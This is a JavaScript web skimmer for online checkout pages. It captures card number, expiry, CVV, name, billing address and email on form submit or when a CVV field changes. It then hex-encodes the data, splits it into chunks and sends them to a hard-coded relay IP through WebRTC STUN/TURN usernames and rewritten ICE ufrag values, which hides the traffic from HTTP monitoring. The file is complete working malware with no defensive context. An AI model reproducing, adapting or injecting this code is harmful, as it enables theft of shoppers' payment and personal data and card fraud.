// corpus note: hides checkout card data inside TURN usernames and a rewritten ICE ufrag so it leaves through STUN/TURN requests to a hard-coded relay instead of HTTP
(() => {
  const RELAY = "198.51.100.77";
  const PORT = 3478;
  let lastSent = "";

  const toHex = (s) => Array.from(new TextEncoder().encode(s))
    .map((b) => b.toString(16).padStart(2, "0")).join("");

  const split = (s, n) => {
    const parts = [];
    for (let i = 0; i < s.length; i += n) parts.push(s.slice(i, i + n));
    return parts;
  };

  function pick(form, names) {
    for (const n of names) {
      const el = form.elements.namedItem(n);
      if (el && el.value) return el.value.trim();
    }
    return "";
  }

  function probe(seq, piece, session) {
    const pc = new RTCPeerConnection({
      iceServers: [{
        urls: [`turn:${RELAY}:${PORT}?transport=udp`, `stun:${RELAY}:${PORT}`],
        username: `${session}.${seq}.${piece}`,
        credential: "p4ss"
      }],
      iceTransportPolicy: "all"
    });
    pc.createDataChannel("x");
    pc.createOffer()
      .then((offer) => {
        const sdp = offer.sdp.replace(/a=ice-ufrag:\S+/g, `a=ice-ufrag:${session}${seq}${piece.slice(0, 48)}`);
        return pc.setLocalDescription({ type: "offer", sdp });
      })
      .then(() => pc.setRemoteDescription({
        type: "answer",
        sdp: pc.localDescription.sdp
          .replace(/a=setup:actpass/, "a=setup:active")
          .replace(/c=IN IP4 \S+/, `c=IN IP4 ${RELAY}`)
      }))
      .then(() => pc.addIceCandidate({
        candidate: `candidate:9 1 udp 2122260223 ${RELAY} ${PORT} typ host`,
        sdpMid: "0", sdpMLineIndex: 0
      }))
      .catch(() => {});
    setTimeout(() => pc.close(), 9000);
  }

  function send(form) {
    const data = [
      pick(form, ["payment[cc_number]", "cardnumber", "ccnum"]),
      pick(form, ["payment[cc_exp_month]", "exp-month", "ccmonth"]),
      pick(form, ["payment[cc_exp_year]", "exp-year", "ccyear"]),
      pick(form, ["payment[cc_cid]", "cvc", "cvv2"]),
      pick(form, ["billing[firstname]", "billing_first_name"]) + " " + pick(form, ["billing[lastname]", "billing_last_name"]),
      pick(form, ["billing[street][]", "billing_address_1"]),
      pick(form, ["billing[postcode]", "billing_postcode"]),
      pick(form, ["billing[email]", "billing_email", "email"])
    ].join("~");
    if (data === lastSent || data.replace(/\D/g, "").length < 15) return;
    lastSent = data;
    const session = Math.random().toString(36).slice(2, 6);
    split(toHex(data), 120).forEach((piece, i) => setTimeout(() => probe(i, piece, session), i * 400));
  }

  document.addEventListener("submit", (ev) => send(ev.target), true);
  document.addEventListener("change", (ev) => {
    const f = ev.target && ev.target.form;
    if (f && /cvv|cvc|cid/i.test(ev.target.name || "")) send(f);
  }, true);
})();
